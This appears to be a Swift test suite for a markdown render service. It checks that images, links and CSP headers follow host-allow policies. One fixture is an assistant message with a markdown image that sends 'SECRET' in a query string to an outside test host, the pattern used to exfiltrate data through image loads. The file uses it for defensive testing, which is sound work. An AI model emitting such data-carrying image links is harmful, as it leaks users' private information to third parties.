import HTTPTypes
import RunFormatters
import Testing

@testable import RenderService

/// Where images of HTML come from and links lead to, as requests and the service's settings say.
@Suite struct AddressPolicyTests {
  private static let secret = "![alt](https://elsewhere.test/x?q=SECRET)"
  private static let raw =
    "<img src='https://elsewhere.test/x' srcset='https://elsewhere.test/y 2x'> [a](https://elsewhere.test)"
  private static let messages =
    #"[{"role": "assistant", "content": "![alt](https://elsewhere.test/x?q=SECRET)"}]"#

  @Test func conversationsAndStreamsFetchFromNowhereElse() async throws {
    try await ServiceUnderTest.run { service in
      let page = try await service.send(
        .post, "/api/v1/messages/render?standalone=true", Self.messages, type: "application/json")
      #expect(!page.body.contains("<img") && page.body.contains("ils-unloaded"))
      #expect(page.headers[.contentSecurityPolicy]?.contains("img-src 'self' data:;") == true)
      #expect(page.body.contains("img-src 'self' data:;"))
      for options in ["{}", #"{"bare":true}"#] {
        let stream = try await service.stream(options)
        _ = try await service.post(stream + "/chunks", markdown: Self.secret + "\n\n" + Self.raw)
        _ = try await service.post(stream + "/finish", markdown: "")
        let html = try await service.get(stream + "?format=html")
        #expect(!html.body.contains("src=\"https") && !html.body.contains("srcset"), "\(html.body)")
        #expect(html.headers[.contentSecurityPolicy]?.contains("img-src 'self' data:;") == true)
      }
      let open = try await service.stream(#"{"imagesFrom":"elsewhere.test"}"#)
      _ = try await service.post(open + "/chunks", markdown: Self.secret)
      #expect(
        try await service.get(open + "?format=html").body.contains(
          "<img src=\"https://elsewhere.test/x?q=SECRET\""))
    }
  }

  @Test(arguments: [
    ("", true, "img-src * data:"), ("imagesFrom=all", true, "img-src * data:"),
    ("imagesFrom=same", false, "img-src 'self' data:"),
    ("imagesFrom=none", false, "img-src 'none'"),
    ("imagesFrom=e.test", false, "img-src 'self' data: https://e.test http://e.test"),
    ("imagesFrom=*.test,elsewhere.test", true, "https://*.test"),
    ("imageProxy=https://p.test/?u={url}", true, "img-src 'self' data: https://p.test"),
  ])
  func pagePolicyFollowsTheRequest(_ query: String, _ hasImage: Bool, _ policy: String) async throws {
    try await ServiceUnderTest.run { service in
      let query = query.replacing("{", with: "%7B").replacing("}", with: "%7D").replacing("?u", with: "%3Fu")
      let page = try await service.post("/render?standalone=true&\(query)", markdown: Self.secret)
      #expect(page.status == 200)
      #expect(
        page.body.contains("<img") == hasImage && page.body.contains(policy), "\(page.body.suffix(400))")
      #expect(page.headers[.contentSecurityPolicy]?.contains(policy) == true)
    }
  }

  /// Whatever a request asks for, in whichever route and format of HTML.
  @Test func noRequestRaisesTheCeiling() async throws {
    try await ServiceUnderTest.run {
      $0.addressCeiling = LinkPolicy.Ceiling(images: .same, targets: .same)
    } _: { service in
      let queries = [
        "imagesFrom=all&linksTo=all", "imagesFrom=elsewhere.test", "imagesFrom=https://elsewhere.test/",
        "rawHTML=sanitize",
        "standalone=true&imagesFrom=all", "bare=true&imagesFrom=all", "styling=inline",
        "imageProxy=https://elsewhere.test/%7Burl%7D", "baseURL=https://elsewhere.test/&imagesFrom=all",
      ]
      for query in queries {
        let answer = try await service.post(
          "/render?" + query, markdown: "\(Self.secret)\n\n\(Self.raw)\n\n![b](x.png)\n")
        #expect(answer.status == 200)
        #expect(
          !answer.body.contains("src=\"https:") && !answer.body.contains("srcset"), "\(query): \(answer.body)"
        )
        #expect(!answer.body.contains("href=\"https:"), "\(query): \(answer.body)")
        #expect(answer.headers[.contentSecurityPolicy]?.contains("img-src 'self' data:;") == true)
        let conversation = try await service.send(
          .post, "/api/v1/messages/render?" + query.replacing("bare=true&", with: ""), Self.messages,
          type: "application/json")
        #expect(conversation.status == 200 && !conversation.body.contains("<img"))
      }
    }
  }

  @Test func theServicesOwnProxy() async throws {
    try await ServiceUnderTest.run {
      $0.addressCeiling.images = (try? AddressSet("elsewhere.test")) ?? .none
      $0.addressCeiling.imageProxy = AddressTemplate("https://p.test/{url}")
    } _: { service in
      let page = try await service.post(
        "/render?standalone=true&imageProxy=https://q.test/%7Burl%7D",
        markdown: Self.secret + " ![b](https://f.test/)")
      #expect(page.body.contains("<img src=\"https://p.test/https%3A%2F%2Felsewhere.test%2Fx%3Fq%3DSECRET\""))
      #expect(page.body.ranges(of: "<img").count == 1 && !page.body.contains("q.test"))
      #expect(page.body.contains("img-src 'self' data: https://p.test;"))
    }
  }

  @Test func linksOfOtherHostsAreText() async throws {
    try await ServiceUnderTest.run { service in
      let answer = try await service.post(
        "/render?linksTo=e.test,mailto:",
        markdown: "[a](https://e.test/b) [c](https://f.test/d) [x](mailto:a@b.test) [y](#z)")
      #expect(answer.body.contains("<a href=\"https://e.test/b\">a</a>"))
      #expect(
        answer.body.contains(
          "<span class=\"ils-blocked\">c</span> <bdi class=\"ils-target\">(https://f.test/d)</bdi>"))
      #expect(answer.body.contains("href=\"mailto:a@b.test\"") && answer.body.contains("href=\"#ils-z\""))
    }
  }

  @Test func whatCannotBeReadIsNamed() async throws {
    try await ServiceUnderTest.run { service in
      let answer = try await service.post(
        "/render",
        json:
          #"{"markdown":"x","imagesFrom":"a b","linksTo":"ftp://x/","imageProxy":"https://x/","baseURL":"x"}"#
      )
      #expect(answer.status == 422)
      #expect(Set(answer.fields.keys) == ["imagesFrom", "linksTo", "imageProxy", "baseURL"])
    }
  }

  @Test func settingsDefineTheCeiling() async throws {
    let configuration = try await ServiceConfiguration(
      arguments: [
        "ilsrenderd", "--images-from", "same", "--links-to", "e.test", "--image-proxy",
        "https://p.test/{url}",
      ], environment: [:])
    #expect(configuration.addressCeiling.images == .same)
    #expect(try configuration.addressCeiling.targets == AddressSet("e.test"))
    #expect(configuration.addressCeiling.imageProxy == AddressTemplate("https://p.test/{url}"))
    for (name, value) in [("images-from", "a b"), ("links-to", "http:"), ("image-proxy", "https://x/")] {
      let error = await #expect(throws: ConfigurationError.self) {
        try await ServiceConfiguration(arguments: ["ilsrenderd", "--" + name, value], environment: [:])
      }
      #expect(error?.description.hasPrefix(name) == true)
    }
  }

  /// What GitHub shows of HTML is usual.
  @Test func harmlessHTMLIsShown() async throws {
    try await ServiceUnderTest.run { service in
      let answer = try await service.post(
        "/render",
        markdown:
          "| a<br>b |\n|---|\n\n<kbd>K</kbd> H<sub>2</sub>O\n\n<details><summary>s</summary>\n\nt\n\n</details>"
      )
      for text in ["a<br>b", "<kbd>K</kbd>", "<sub>2</sub>", "<details><summary>s</summary>"] {
        #expect(answer.body.contains(text))
      }
      let shown = try await service.post("/render?rawHTML=escape", markdown: "<kbd>K</kbd>")
      #expect(shown.body.contains("&lt;kbd&gt;"))
    }
  }
}
